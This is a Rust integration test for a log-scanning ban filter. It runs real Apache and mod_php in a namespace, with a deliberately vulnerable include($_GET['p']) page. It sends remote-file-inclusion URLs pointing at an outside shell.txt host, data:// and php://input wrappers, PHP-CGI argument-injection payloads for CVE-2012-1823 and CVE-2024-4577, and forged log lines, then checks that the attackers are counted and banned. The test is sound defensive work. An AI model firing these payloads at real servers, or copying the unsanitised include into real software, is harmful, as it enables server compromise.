//! The `php-url-fopen` filter against the real Apache and PHP, twice: Debian 12's (the
//! machine's) and Debian 13's (Apache 2.4.71 and mod_php 8.4 of test.sh's trixie-e tree, run
//! with chroot in a private overlay of it: common/real.rs `trixie_mount`), the same scenarios
//! and one table of what PHP writes and what counts for both (PHP 8.4 words every warning
//! and fatal error as 8.2 does); each run asserts the versions from its dpkg database.
//! Apache 2.4 with mpm_prefork and mod_php (common/php_web.rs; Debian's php.ini: display_errors Off,
//! log_errors On, no error_log, allow_url_fopen On, allow_url_include Off) runs in its own
//! pid, mount and network namespace (`unshare`), listening on 192.0.2.1 and [2001:db8::1],
//! writing the "combined" access log and its error log (default ErrorLogFormat), where
//! mod_php writes PHP's warnings as `[php:warn] [pid P:tid T] [client ADDR:PORT] PHP
//! Warning:  ...`. The site: index.php (ignores its query), vuln.php
//! (`include($_GET["p"])`), and under nofopen/ (`php_admin_flag allow_url_fopen off`)
//! fetch.php (`file_get_contents($_GET["u"])`) and spl.php (`new SplFileObject($_GET["u"])`).
//!
//! Clients (`curl --interface SRC`): 198.51.100.7 reads pages, includes a local page through
//! vuln.php, passes a percent-encoded URL in a query and sends a Referer holding
//! `?page=http://...`; 203.0.113.5 sends URLs and wrappers (http, https, ftp, php://input,
//! data://, expect://) in the query of index.php, one in the absolute form, one behind a
//! quote in the path, one behind a quote in the query, one with a Referer and User-Agent
//! forging 192.0.2.66's lines; 203.0.113.6 hands vuln.php http://, ftp://, data://,
//! `data:` without slashes, HTTP://, a percent-encoded http://, php://input,
//! compress.zlib://http://, and a URL holding `[client 192.0.2.66:1]`, a %0a and a whole
//! forged PHP warning of 192.0.2.66, then http:// URLs to fetch.php and spl.php;
//! 2001:db8::7 hands vuln.php an https:// URL over IPv6; 198.51.100.21 sends PHP-CGI
//! argument injections (`?-s`, `?-d+allow_url_include%3don+...`, `?%ADd+...` and a raw 0xAD
//! byte, which Apache writes as `\xad`), then `?-sort=name`, which holds an "=" (php-cgi
//! takes no arguments from such a query) and counts nothing.
//!
//! `portcullis test --filter php-url-fopen --json` must count, for the address Apache wrote
//! (never 192.0.2.66), each written-out URL or wrapper in a query (access log,
//! `url-parameter`), each of the four injections (`cgi-argument`) and each "wrapper is
//! disabled" warning (error log, `wrapper-disabled`), and nothing for 198.51.100.7;
//! `portcullis replay` with `maxretry = 3` bans 198.51.100.21, 203.0.113.5 and 203.0.113.6
//! from the access log and 203.0.113.6 from the error log, in mode normal and aggressive
//! alike (a filter made only of scan rules counts in every mode). The first run found that the
//! filter missed PHP's warning for an upper-case scheme (`HTTP:// wrapper is disabled`) and
//! the fatal error of a class method (`PHP Fatal error:  Uncaught RuntimeException:
//! SplFileObject::__construct(): http:// wrapper is disabled ...`), and in the access log
//! `data:` without slashes, compress.zlib://, and any request with an escaped quote in its
//! path or query. A percent-encoded URL (`http%3A%2F%2F`) counts only in the error log, and
//! php://input and compress.zlib:// only in the access log (PHP writes "Failed to open
//! stream: operation failed" for them, no "wrapper is disabled").
//!
//! Needs root, apache2 with mod_php 8.2 (libapache2-mod-php8.2), curl, iproute2's ip and
//! ss, util-linux's unshare (test.sh installs them), and for the second run chroot and the
//! trixie-e tree (apache2, libapache2-mod-php8.4); fails loudly when they are missing. Runs
//! in about 1 s each.

mod common;

use common::*;
use std::fs;
use std::path::Path;

/// Run as pid 1 of the new pid, mount and network namespace (bash): every process of the
/// run is in it and dies with it; $1 is the test's directory. (After [`PRIVATE_SYSLOG_SH`],
/// [`TRIXIE_SH`] and [`PHP_WEB_SH`].) $2 is the Debian 13 tree (empty: the machine's Apache
/// and PHP 8.2).
const SCRIPT: &str = r#"set -u
d="$1"; tree="$2"
ip link set lo up
for a in 192.0.2.1 198.51.100.7 198.51.100.21 203.0.113.5 203.0.113.6; do
  ip addr add "$a/32" dev lo || exit 2
done
for a in 2001:db8::1 2001:db8::7; do ip addr add "$a/128" dev lo nodad || exit 2; done
chmod 755 "$d"
private_dev
# the Apache and PHP to run: the machine's (Debian 12), or Debian 13's in a private overlay
# of its tree (common/real.rs trixie_mount: $d at the same path inside)
r=/
if [ -n "$tree" ]; then
  r="$d/root"
  trixie_mount "$tree" "$r" "$d/trixie" || exit 4
  PCT_ROOT=$r PCT_PHP=8.4
fi
dpkg-query --admindir="$r/var/lib/dpkg" -W -f '${Package} ${Version}\n' apache2 \
  "libapache2-mod-php$PCT_PHP" > "$d/version"
h="$d/htdocs"
mkdir -p "$h/nofopen"
printf '<?php\necho "home\\n";\n' > "$h/index.php"
printf '<?php\necho "a page\\n";\n' > "$h/page.php"
printf '<?php\ninclude($_GET["p"]);\necho "done\\n";\n' > "$h/vuln.php"
printf '<?php\necho file_get_contents($_GET["u"]);\n' > "$h/nofopen/fetch.php"
printf '<?php\n$f = new SplFileObject($_GET["u"]);\n' > "$h/nofopen/spl.php"
chmod -R a+rX "$h"
php_apache_conf "$d"
cat >> "$d/httpd.conf" <<C
DocumentRoot $h
<Directory $h/nofopen>
  php_admin_flag allow_url_fopen off
</Directory>
C
php_apache_start "$d"
forged='192.0.2.66 - - [01/Jan/2026:00:00:00 +0000] "GET /?page=http://x/ HTTP/1.1" 200 1 "-" "-"'
warn='[php:warn] [pid 1] [client 192.0.2.66:1] PHP Warning:  include(): http:// wrapper is disabled in the server configuration by allow_url_include=0'
# the legitimate client
web 198.51.100.7 /
web 198.51.100.7 "/vuln.php?p=page.php"
web 198.51.100.7 "/?q=http%3A%2F%2Fexample.com%2F&page=2"
web 198.51.100.7 /page.php -e 'http://www.example.com/?page=http://198.51.100.66/x'
# URLs and wrappers in the query of a page that ignores them
web 203.0.113.5 "/index.php?page=http://198.51.100.66/shell.txt?"
web 203.0.113.5 "/?a=1&file=ftp://198.51.100.66/x"
web 203.0.113.5 "/index.php?x=php://input" --data-binary '<?php echo 1;'
web 203.0.113.5 "/?x=data://text/plain;base64,PD9waHAgZWNobyAxOw=="
web 203.0.113.5 "/?cmd=expect://id"
web 203.0.113.5 /x --request-target 'http://www.example.com/index.php?page=https://198.51.100.66/x'
web 203.0.113.5 '/x"y/../index.php?page=http://198.51.100.66/x'
web 203.0.113.5 '/index.php?a="&page=http://198.51.100.66/x'
web 203.0.113.5 "/index.php?page=http://198.51.100.66/%5Bclient%20192.0.2.66:1%5D" \
  -e "http://192.0.2.66/?page=http://x/ $warn" -A "$forged"
# URLs handed to include(), file_get_contents() and SplFileObject
web 203.0.113.6 "/vuln.php?p=http://198.51.100.66/shell.txt?"
web 203.0.113.6 "/vuln.php?p=ftp://198.51.100.66/x"
web 203.0.113.6 "/vuln.php?p=data://text/plain;base64,PD9waHAgZWNobyAxOw=="
web 203.0.113.6 "/vuln.php?p=data:text/plain;base64,PD9waHAgZWNobyAxOw=="
web 203.0.113.6 "/vuln.php?p=HTTP://198.51.100.66/x"
web 203.0.113.6 "/vuln.php?p=http%3A%2F%2F198.51.100.66%2Fx"
web 203.0.113.6 "/vuln.php?p=php://input" --data-binary '<?php echo 1;'
web 203.0.113.6 "/vuln.php?p=compress.zlib://http://198.51.100.66/x"
web 203.0.113.6 "/vuln.php?p=http://x/%5Bclient%20192.0.2.66:1%5D%20$(printf %s "$warn" | sed 's/ /%20/g')%0a$(printf %s "$warn" | sed 's/ /%20/g')"
web 203.0.113.6 "/nofopen/fetch.php?u=http://198.51.100.66/x"
web 203.0.113.6 "/nofopen/spl.php?u=http://198.51.100.66/x"
# IPv6
web 2001:db8::7 "/vuln.php?p=https://198.51.100.66/x"
# PHP-CGI argument injection (CVE-2012-1823, CVE-2024-4577): queries without a raw "="
# that start with a dash, %2D, %AD or a raw 0xAD byte; then a query of the same look with an
# "=", which php-cgi never takes as arguments (counts nothing)
web 198.51.100.21 "/index.php?-s"
web 198.51.100.21 "/cgi-bin/php5?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input" --data-binary '<?php echo 1;'
web 198.51.100.21 "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input" --data-binary '<?php echo 1;'
web 198.51.100.21 "/index.php?$(printf '\255')d+allow_url_include%3d1"
web 198.51.100.21 "/index.php?-sort=name"
"#;

/// Runs every scenario against `version`'s Apache and PHP (the clients are the machine's)
/// and checks what the clients got, what PHP wrote and what the filter counts of it.
fn run(version: Release) {
    let tree = match version {
        Release::Deb12 => {
            require_php_web(false, &[]);
            String::new()
        }
        Release::Deb13 => require_php_web13(false, &[]).display().to_string(),
    };
    let dir = test_dir(match version {
        Release::Deb12 => "php-url-fopen",
        Release::Deb13 => "php-url-fopen-8.4",
    });
    let shown = [
        ("apache", "apache.out"),
        ("curl", "curl.err"),
        ("error log", "error.log"),
    ];
    let script = format!("{PRIVATE_SYSLOG_SH}{TRIXIE_SH}{PHP_WEB_SH}{SCRIPT}");
    run_script_ok("Apache", dir.path(), &script, &[tree.as_ref()], &shown);
    let read = |name: &str| fs::read_to_string(dir.path().join(name)).unwrap_or_default();
    // which release started: Apache 2.4 and mod_php 8.2 (Debian 12) or 8.4 (Debian 13)
    let php = match version {
        Release::Deb12 => "libapache2-mod-php8.2 8.2.",
        Release::Deb13 => "libapache2-mod-php8.4 8.4.",
    };
    let versions = read("version");
    let lines: Vec<&str> = versions.lines().collect();
    assert!(
        lines.len() == 2 && lines[0].starts_with("apache2 2.4.") && lines[1].starts_with(php),
        "versions: {versions}"
    );
    let (access, error) = (dir.path().join("access.log"), dir.path().join("error.log"));
    let (access_text, error_text) = (read("access.log"), read("error.log"));

    // what the clients saw
    let want_codes: Vec<String> = [
        ("198.51.100.7", "200 200 200 200"),
        ("203.0.113.5", "200 200 200 200 200 200 200 200 200"),
        ("203.0.113.6", "200 200 200 200 200 200 200 200 200 200 500"),
        ("2001:db8::7", "200"),
        ("198.51.100.21", "200 404 404 200 200"),
    ]
    .iter()
    .flat_map(|(src, codes)| codes.split(' ').map(move |c| format!("{src} {c}")))
    .collect();
    assert_eq!(
        read("codes").lines().collect::<Vec<_>>(),
        want_codes,
        "HTTP statuses; curl: {}",
        read("curl.err")
    );

    // what PHP wrote through Apache: one shape per message, control bytes escaped
    for (what, n) in [
        (
            " wrapper is disabled in the server configuration by allow_url_include=0 in ",
            8,
        ),
        (
            "] PHP Warning:  file_get_contents(): http:// wrapper is disabled in the server \
             configuration by allow_url_fopen=0 in ",
            1,
        ),
        ("] [php:error] [pid ", 1),
        (
            "] PHP Fatal error:  Uncaught RuntimeException: SplFileObject::__construct(): \
             http:// wrapper is disabled in the server configuration by allow_url_fopen=0 in ",
            1,
        ),
        ("] PHP Warning:  include(): HTTP:// wrapper is disabled", 1),
        ("] PHP Warning:  include(): data:// wrapper is disabled", 2),
        (
            "include(php://input): Failed to open stream: operation failed",
            1,
        ),
        (
            "allow_url_include=0\\n[php:warn] [pid 1] [client 192.0.2.66:1] PHP Warning:",
            2,
        ),
    ] {
        assert_eq!(
            error_text.matches(what).count(),
            n,
            "error log: {what}\n{error_text}"
        );
    }
    assert!(
        !error_text
            .lines()
            .any(|l| l.starts_with("[php:warn] [pid 1]")),
        "a client forged a line:\n{error_text}"
    );
    assert!(
        !access_text.lines().any(|l| l.starts_with("192.0.2.66")),
        "a client forged a line:\n{access_text}"
    );

    // what counts, per log, address and rule
    let checks: [(&Path, &RuleCounts); 2] = [
        (
            &access,
            &[
                ("203.0.113.5", &[("url-parameter", 9)]),
                ("203.0.113.6", &[("url-parameter", 10)]),
                ("2001:db8::7", &[("url-parameter", 1)]),
                ("198.51.100.21", &[("cgi-argument", 4)]),
            ],
        ),
        (
            &error,
            &[
                ("203.0.113.6", &[("wrapper-disabled", 9)]),
                ("2001:db8::7", &[("wrapper-disabled", 1)]),
            ],
        ),
    ];
    for (log, want) in checks {
        assert_eq!(
            rules_by_host("php-url-fopen", log),
            want_rules(want),
            "{}: what counted, per address; log:\n{}",
            log.display(),
            fs::read_to_string(log).unwrap_or_default()
        );
    }

    // a jail with maxretry 3 bans the attackers, never the legitimate client, in mode normal
    // and aggressive alike (a filter made only of scan rules counts in every mode)
    for (log, banned) in [
        (&access, vec!["198.51.100.21", "203.0.113.5", "203.0.113.6"]),
        (&error, vec!["203.0.113.6"]),
    ] {
        for mode in ["normal", "aggressive"] {
            let bans = replay_jail(dir.path(), "php-url-fopen", log, mode, 3);
            assert_eq!(
                bans.iter().map(String::as_str).collect::<Vec<_>>(),
                banned,
                "{}: bans in mode {mode}",
                log.display()
            );
        }
    }
}

#[test]
#[ignore = "needs root: run as root, as `sudo ./test.sh` does (cargo test -- --include-ignored)"]
fn real_php_url_fopen_counts_for_the_client_apache_wrote() {
    run(Release::Deb12);
}

#[test]
#[ignore = "needs root: run as root, as `sudo ./test.sh` does (cargo test -- --include-ignored)"]
fn real_php_url_fopen_php_8_4_counts_for_the_client_apache_wrote() {
    run(Release::Deb13);
}
